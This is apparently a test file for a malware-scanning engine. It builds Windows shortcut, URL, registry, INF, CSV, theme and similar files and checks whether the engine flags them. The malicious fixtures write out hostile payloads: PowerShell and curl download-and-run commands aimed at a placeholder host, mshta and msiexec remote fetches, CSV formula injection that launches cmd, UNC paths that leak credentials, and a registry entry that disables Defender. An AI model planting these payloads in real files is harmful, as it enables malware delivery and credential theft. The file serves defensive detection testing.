from __future__ import annotations

import base64
import struct

import pytest
from hypothesis import given, strategies as st

from app.engine.model import Severity, Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from tests.fuzz import fuzzed

from .containers import EICAR, damaged, judged, places, unknowns

LIBRARY = "library-ms"
HOST = "203.0.113.9"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def counted(text: str) -> bytes:
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def item(name: str) -> bytes:
    """An item of the list that names a target as Windows Explorer keeps it: size, kind, name."""
    content = b"\x32\x00" + name.encode("utf-16-le") + b"\0\0"
    return struct.pack("<H", len(content) + 2) + content


def place(path: str, share: str) -> bytes:
    """Where the target lies (MS-SHLLINK 2.3): on a volume or on a share."""
    if share:
        network = struct.pack("<5I", 21 + len(share), 0, 20, 0, 0) + share.encode() + b"\0"
        body = struct.pack("<5I", 2, 0, 0, 0x1C, 0x1C + len(network)) + network + path.encode() + b"\0"
    else:
        volume = struct.pack("<4I", 17, 3, 0, 16) + b"\0"
        end = 0x1C + len(volume) + len(path) + 1
        body = struct.pack("<5I", 1, 0x1C, 0x1C + len(volume), 0, end) + volume + path.encode() + b"\0\0"
    return struct.pack("<II", len(body) + 8, 0x1C) + body


def lnk(
    target: str = "",
    arguments: str = "",
    *,
    icon: str = "",
    variable: str = "",
    share: str = "",
    ids: tuple[str, ...] = (),
    tail: bytes = b"",
    show: int = 1,
) -> bytes:
    """A shortcut (MS-SHLLINK): header, list of ids, place, texts, blocks, end."""
    flags, body = 0x80, b""
    if ids:
        items = b"".join(map(item, ids)) + b"\0\0"
        flags, body = flags | 1, struct.pack("<H", len(items)) + items
    if target or share:
        flags, body = flags | 2, body + place(target, share)
    if arguments:
        flags, body = flags | 0x20, body + counted(arguments)
    if icon:
        flags, body = flags | 0x40, body + counted(icon)
    if variable:
        flags |= 0x200
        body += struct.pack("<II", 0x314, 0xA0000001) + variable.encode().ljust(260, b"\0")
        body += variable.encode("utf-16-le").ljust(520, b"\0")
    head = b"L\0\0\0" + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", flags)
    return head + bytes(36) + struct.pack("<I", show) + bytes(12) + body + b"\0\0\0\0" + tail


BAD_LNK = {
    "fetching": lnk(POWERSHELL, f"-w hidden iex(iwr http://{HOST}/a)"),
    "what lies beside it": lnk(CMD, "/c start picture.js"),
    "only a list of ids": lnk(ids=("C:\\", "Windows", "System32", "mshta.exe"), arguments=f"http://{HOST}/a.hta"),
    "a variable": lnk(variable="%comspec%", arguments="/c p^o^w^ershell -e aaaaaaaaaaaaaaaaaaaaaaaaaaa"),
    "blanks": lnk(CMD, " " * 300 + "/c calc"),
    "a share of the web": lnk("docs\\a.exe", share=rf"\\{HOST}@80\share"),
    "a proxy command": lnk(r"C:\Windows\System32\OpenSSH\ssh.exe", '-o ProxyCommand="calc" .'),
    "a library": lnk(r"C:\Windows\System32\rundll32.exe", "docs\\a.dat,Start"),
    "a document's icon": lnk(POWERSHELL, "-c echo", icon=r"C:\Program Files\Adobe\AcroRd32.exe"),
    "itself": lnk(CMD, "/c findstr x a.lnk", tail=b"MZ" + bytes(range(256)) * 40),
    "a headless console": lnk(r"C:\Windows\System32\conhost.exe", "--headless cmd /c calc"),
    "files in a loop": lnk(r"C:\Windows\System32\forfiles.exe", '/p c:\\windows /m notepad.exe /c "cmd /c calc"'),
    "an installer": lnk(r"C:\Windows\System32\msiexec.exe", f"/q /i http://{HOST}/a.msi"),
    "explorer": lnk(r"C:\Windows\explorer.exe", rf"\\{HOST}@ssl\DavWWWRoot\a.vbs"),
    "in parts": lnk(CMD, "/c set a=curl&& call %a% -o %temp%\\x.exe http://evil.example/x && %temp%\\x.exe"),
    "minimised": lnk(CMD, "/c copy /b %temp%\\a+%temp%\\b %temp%\\c", show=7),
}
GOOD_LNK = {
    "a document": lnk(r"C:\Users\me\Documents\report.pdf"),
    "a share of the company": lnk("budget.xlsx", share=r"\\fileserver\finance"),
    "a program": lnk(r"C:\Program Files\App\app.exe", "--profile x", icon=r"C:\Program Files\App\app.exe"),
    "a console": lnk(CMD, r'/k "C:\VS\vcvars64.bat"'),
    "a control panel": lnk(r"C:\Windows\System32\control.exe", "printers"),
    "padding": lnk(r"C:\Users\me\report.pdf", tail=bytes(4000)),
}


@pytest.mark.parametrize("what", BAD_LNK)
def test_a_shortcut_that_starts_a_hidden_command_is_malicious(engine: Engine, what: str) -> None:
    assert engine.scan(BAD_LNK[what], name="a.lnk").verdict is Verdict.MALICIOUS


@pytest.mark.parametrize("what", GOOD_LNK)
def test_an_ordinary_shortcut_is_no_worse_than_its_type(engine: Engine, what: str) -> None:
    assert engine.scan(GOOD_LNK[what], name="a.lnk").verdict is Verdict.RESTRICTED


def test_the_command_of_a_shortcut_is_the_evidence(engine: Engine) -> None:
    report = engine.scan(BAD_LNK["blanks"], name="a.lnk")

    assert {f.evidence for f in report.findings if f.id == "shortcut.command"} == {f"{CMD} /c calc"}


def test_what_hides_behind_a_shortcut_is_scanned(engine: Engine) -> None:
    report = engine.scan(lnk(CMD, tail=b"<html><script>" + EICAR * 5 + b"</script>"), name="a.lnk")

    assert places(report)["yara.eicar"].startswith("a.lnk")


@pytest.mark.parametrize("size", [30, 90, 150])
def test_a_damaged_shortcut_is_unknown(engine: Engine, size: int) -> None:
    assert "shortcut.damaged" in unknowns(engine.scan(lnk(CMD, "/c " + "calc " * 20)[:size], name="a.lnk"))


def xml(text: str) -> str:
    return f'<?xml version="1.0"?>\n{text}'


def library(address: str) -> str:
    return xml(
        '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList>'
        f"<searchConnectorDescription><simpleLocation><url>{address}</url></simpleLocation></searchConnectorDescription>"
        "</searchConnectorDescriptionList></libraryDescription>"
    )


def setting(command: str) -> str:
    return xml(
        "<PCSettings><SearchableContent><ApplicationInformation>"
        f"<DeepLink>{command}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"
    )


def run_key(command: str) -> str:
    key = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"
    return f'Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n"x"="{command}"\r\n'


#: What it is -> name, content, and the least verdict that it must have.
BAD: dict[str, tuple[str, str, Verdict]] = {
    "an address of files": ("a.url", f"[InternetShortcut]\r\nURL=file://{HOST}/share/a.exe\r\n", Verdict.MALICIOUS),
    "a share of the web": ("a.url", f"[InternetShortcut]\r\nURL=file:\\\\{HOST}@80\\dav\\a.vbs\r\n", Verdict.MALICIOUS),
    "an icon elsewhere": (
        "a.url",
        f"[InternetShortcut]\r\nURL=https://example.com\r\nIconFile=\\\\{HOST}\\i.ico\r\n",
        Verdict.MALICIOUS,
    ),
    "a program page": ("a.url", "[InternetShortcut]\r\nURL=http://evil.example/a.hta\r\n", Verdict.SUSPICIOUS),
    "a scheme that runs": ("a.url", "[InternetShortcut]\r\nURL=javascript:alert(1)\r\n", Verdict.SUSPICIOUS),
    "a folder elsewhere": (
        "a.url",
        f"[x]\r\n[InternetShortcut]\r\nURL=https://a.example/\r\nWorkingDirectory=\\\\{HOST}@80\\w\\\r\n",
        Verdict.MALICIOUS,
    ),
    "an explorer command": ("a.scf", f"[Shell]\r\nCommand=2\r\nIconFile=\\\\{HOST}\\x.ico\r\n", Verdict.MALICIOUS),
    "a theme": ("a.theme", f"[Control Panel\\Desktop]\r\nWallpaper=\\\\{HOST}\\w.jpg\r\n", Verdict.MALICIOUS),
    "a theme's screen saver": (
        "a.theme",
        "[boot]\r\nSCRNSAVE.EXE=%USERPROFILE%\\Downloads\\a.scr\r\n",
        Verdict.MALICIOUS,
    ),
    "a desktop entry": (
        "a.desktop",
        f'[Desktop Entry]\nType=Application\nExec=bash -c "curl http://{HOST}/x | sh"\n',
        Verdict.MALICIOUS,
    ),
    "settings of a script": ("a.wsh", f"[ScriptFile]\r\nPath=\\\\{HOST}\\x.vbs\r\n", Verdict.MALICIOUS),
    "a remote desktop": ("a.rdp", f"full address:s:{HOST}\r\ndrivestoredirect:s:*\r\n", Verdict.SUSPICIOUS),
    "a registry entry": ("a.reg", run_key(f"powershell -w hidden -c iex(iwr http://{HOST}/a)"), Verdict.MALICIOUS),
    "a registry switch": (
        "a.reg",
        "REGEDIT4\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\r\n"
        '"DisableAntiSpyware"=dword:00000001\r\n',
        Verdict.SUSPICIOUS,
    ),
    "set-up instructions": (
        "a.inf",
        f"[version]\nSignature=$chicago$\n[DefaultInstall]"
        f"\nUnRegisterOCXs=X\n[X]\n%11%\\scrobj.dll,NI,http://{HOST}/a.sct\n",
        Verdict.MALICIOUS,
    ),
    "set-up commands": (
        "b.inf",
        "[version]\nSignature=$chicago$\n[DefaultInstall]\nRunPreSetupCommands=C\n[C]\nmshta http://evil.example/a\n",
        Verdict.MALICIOUS,
    ),
    "an alarm": (
        "a.ics",
        "BEGIN:VCALENDAR\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/windows/system32/cmd.exe\r\n",
        Verdict.MALICIOUS,
    ),
    "a web query": ("a.iqy", f"WEB\r\n1\r\nhttp://{HOST}/q.dat\r\n", Verdict.MALICIOUS),
    "an old table's macro": (
        "a.slk",
        'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;F\r\nC;X1;Y101;K0;EEXEC("CALC.EXE")\r\nE\r\n',
        Verdict.MALICIOUS,
    ),
    "an old table under a new name": ("a.csv", "ID;P\r\nC;Y1;X1;K0;E=cmd|' /C calc'!A0\r\nE\r\n", Verdict.MALICIOUS),
    "a command in a cell": ("a.csv", "name,x\r\nfoo,=cmd|' /C calc'!A0\r\n", Verdict.MALICIOUS),
    "a command behind a sum": ("a.csv", "name,x\r\nfoo,@SUM(1+1)*cmd|' /C calc'!A0\r\n", Verdict.MALICIOUS),
    "a command in quotes": ("a.csv", "name;x\r\nfoo;\"=2+5+cmd|' /C calc'!A0\"\r\n", Verdict.MALICIOUS),
    "a cell that sends": (
        "a.csv",
        'a,b\r\nx,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n',
        Verdict.SUSPICIOUS,
    ),
    "a library": (f"a.{LIBRARY}", library(f"\\\\{HOST}\\share"), Verdict.MALICIOUS),
    "a search": ("a.searchConnector-ms", library(f"\\\\{HOST}@80\\share"), Verdict.MALICIOUS),
    "a setting": ("a.settingcontent-ms", setting("%windir%\\system32\\cmd.exe /c calc.exe"), Verdict.MALICIOUS),
    "a Java program": (
        "a.jnlp",
        xml(
            f'<jnlp codebase="http://{HOST}/"><security><all-permissions/></security><resources><jar '
            f'href="a.jar"/></resources></jnlp>'
        ),
        Verdict.MALICIOUS,
    ),
    "an app": ("a.appinstaller", xml('<AppInstaller Uri="https://evil.example/a.appinstaller"/>'), Verdict.SUSPICIOUS),
    "a reference to a program": (
        "a.appref-ms",
        "http://evil.example/a.application#a, Culture=neutral",
        Verdict.SUSPICIOUS,
    ),
    "a console": (
        "a.msc",
        xml('<MMC_ConsoleFile><String ID="1">javascript:eval("new ActiveXObject(x)")</String></MMC_ConsoleFile>'),
        Verdict.MALICIOUS,
    ),
    "a contact": (
        "a.contact",
        xml("<c:contact><c:Url><c:Value>www.mail\\example.com.cpl</c:Value></c:Url></c:contact>"),
        Verdict.MALICIOUS,
    ),
    "a style sheet": (
        "a.xsl",
        xml(
            '<xsl:stylesheet><ms:script language="JScript">new ActiveXObject("WScript.'
            "Shell"
            '").Run("cmd /c calc")</ms:script></xsl:stylesheet>'
        ),
        Verdict.MALICIOUS,
    ),
    "a folder's icon": ("desktop.ini", f"[.ShellClassInfo]\r\nIconResource=\\\\{HOST}\\a.ico,0\r\n", Verdict.MALICIOUS),
    "a playlist": ("a.m3u", f"#EXTM3U\n\\\\{HOST}\\a.mp3\n", Verdict.MALICIOUS),
    "a posing entry": (
        "b.desktop",
        "[Desktop Entry]\nType=Application\nName=invoice.pdf\nExec=sh -c /usr/lib/a\n",
        Verdict.MALICIOUS,
    ),
    "a program in a cell": (
        "c.csv",
        "a\r\n=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\r\n",
        Verdict.MALICIOUS,
    ),
    "a place of the web": (
        "a.webloc",
        xml("<plist><dict><string>file:///System/Applications/Calculator.app</string></dict></plist>"),
        Verdict.SUSPICIOUS,
    ),
}

GOOD: dict[str, tuple[str, str]] = {
    "a page": (
        "a.url",
        "[InternetShortcut]\r\nIDList=\r\nURL=https://www.example.com/page?x=1\r\nIconFile=C:\\x\\favicon.ico\r\n",
    ),
    "a script page": ("b.url", "[InternetShortcut]\r\nURL=https://www.example.com/index.php\r\n"),
    "a folder of the company": ("c.url", "[InternetShortcut]\r\nURL=file://fileserver/docs/plan.docx\r\n"),
    "a theme": (
        "a.theme",
        "[Control Panel\\Desktop]"
        "\r\nWallpaper=%SystemRoot%\\web\\w.jpg\r\n[boot]"
        "\r\nSCRNSAVE.EXE=%SystemRoot%\\system32\\a.scr\r\n",
    ),
    "a desktop entry": ("a.desktop", "[Desktop Entry]\nType=Application\nName=Files\nExec=nautilus --new-window %U\n"),
    "a remote desktop": ("a.rdp", "full address:s:ts01.corp.local\r\nredirectdrives:i:1\r\n"),
    "a remote desktop outside": ("b.rdp", "full address:s:rds.example.com\r\nredirectclipboard:i:1\r\n"),
    "registry settings": (
        "a.reg",
        'REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme]\r\n"Path"="C:\\\\Program Files\\\\Acme"\r\n',
    ),
    "a registry entry": ("b.reg", run_key('\\"C:\\\\Program Files\\\\Acme\\\\acme.exe\\" /tray')),
    "a driver": ("a.inf", '[Version]\nSignature="$Windows NT$"\nClass=USB\n[DefaultInstall]\nCopyFiles=x\nAddReg=y\n'),
    "a meeting": (
        "a.ics",
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FMTTYPE=text/plain:https://example.com/agenda.txt\r\nEND:VEVENT\r\n",
    ),
    "a table": ("a.csv", 'name,x\r\nfoo,-5\r\nbar,=SUM(A1:A3)\r\nx,"a|b!c"\r\n- Sale | Buy now!,1\r\n'),
    "links in a table": ("b.csv", 'a,b\r\nx,"=HYPERLINK(""https://example.com/1"",""one"")"\r\n'),
    "an old table": ("a.slk", 'ID;PWXL;N;E\r\nC;Y1;X1;K"Name"\r\nC;Y2;X1;K5;ESUM(R1C1:R1C2)\r\nE\r\n'),
    "a library": (f"a.{LIBRARY}", library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
    "a setting": ("a.settingcontent-ms", setting("%windir%\\system32\\control.exe /name Microsoft.Display")),
    "a Java program": (
        "a.jnlp",
        xml('<jnlp codebase="https://kvm.corp.local/"><resources><jar href="a.jar"/></resources></jnlp>'),
    ),
    "a console": (
        "a.msc",
        xml('<MMC_ConsoleFile><StringTables><String ID="1">Favorites</String></StringTables></MMC_ConsoleFile>'),
    ),
    "a contact": (
        "a.contact",
        xml("<c:contact><c:Url><c:Value>https://www.example.com/</c:Value></c:Url></c:contact>"),
    ),
    "a style sheet": ("a.xsl", xml('<xsl:stylesheet><xsl:template match="/"><p/></xsl:template></xsl:stylesheet>')),
    "a place of the web": ("a.webloc", xml("<plist><dict><string>https://example.com/</string></dict></plist>")),
}


@pytest.mark.parametrize("what", BAD)
def test_a_file_that_makes_a_desktop_start_something_is_told(engine: Engine, what: str) -> None:
    name, text, least = BAD[what]

    assert engine.scan(text.encode(), name=name).verdict.rank >= least.rank


@pytest.mark.parametrize("what", GOOD)
def test_its_ordinary_twin_is_clean(engine: Engine, what: str) -> None:
    name, text = GOOD[what]

    assert engine.scan(text.encode(), name=name).verdict is Verdict.CLEAN


@pytest.mark.parametrize("what", ["a registry entry", "a remote desktop", "a library"])
def test_wide_letters_hide_nothing(engine: Engine, what: str) -> None:
    name, text, least = BAD[what]

    assert engine.scan(text.encode("utf-16"), name=name).verdict.rank >= least.rank


def test_a_registry_entry_in_hexadecimal_is_read(engine: Engine) -> None:
    digits = ",".join(f"{byte:02x}" for byte in f"mshta http://{HOST}/a".encode("utf-16-le"))
    report = engine.scan(run_key("").replace('""', f"hex(2):{digits}").encode(), name="a.reg")

    assert report.verdict is Verdict.MALICIOUS


def test_the_address_of_an_internet_shortcut_is_looked_up(engine: Engine) -> None:
    report = engine.scan(GOOD["a page"][1].encode(), name="a.url")

    assert [link.url for link in report.urls] == ["https://www.example.com/page?x=1"]


def test_what_is_attached_to_a_calendar_is_scanned(engine: Engine) -> None:
    encoded = base64.b64encode(EICAR).decode()
    head = "BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=bill.txt"
    text = f"{head}:{encoded[:40]}\r\n {encoded[40:]}\r\nEND"

    assert places(engine.scan(text.encode(), name="a.ics"))["yara.eicar"] == "a.ics/bill.txt"


def test_the_same_words_under_another_name_say_nothing(engine: Engine) -> None:
    for what in ("a registry entry", "an explorer command", "a setting"):
        report = engine.scan(BAD[what][1].encode(), name="notes.txt")
        assert not [f for f in report.findings if f.id.startswith("shortcut.")]


@fuzzed()
@given(data=st.data())
def test_damaged_shortcuts_never_fail(rules: RuleSet, data: st.DataObject) -> None:
    content = data.draw(damaged(data.draw(st.sampled_from(list(BAD_LNK.values())))))

    judged(rules, content, "a.lnk")


@fuzzed()
@given(data=st.data())
def test_damaged_texts_never_fail(rules: RuleSet, data: st.DataObject) -> None:
    name, text, _ = data.draw(st.sampled_from(list(BAD.values())))
    content = data.draw(damaged(text.encode()))

    judged(rules, content, name)


@pytest.mark.parametrize("name", [row[0] for row in BAD.values()])
def test_a_finding_says_what_in_plain_words(engine: Engine, name: str) -> None:
    text = next(row[1] for row in BAD.values() if row[0] == name)
    for finding in engine.scan(text.encode(), name=name).findings:
        assert finding.title and not finding.title.endswith(".")
        assert finding.severity is Severity.INFO or finding.evidence
